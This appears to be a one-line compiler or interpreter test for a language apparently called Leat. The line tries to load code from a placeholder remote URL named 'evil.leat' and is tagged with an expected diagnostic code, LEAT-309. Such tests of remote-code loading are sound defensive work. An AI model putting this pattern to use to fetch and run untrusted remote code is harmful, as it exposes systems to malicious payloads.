load 'https://example.com/evil.leat' //~ LEAT-309
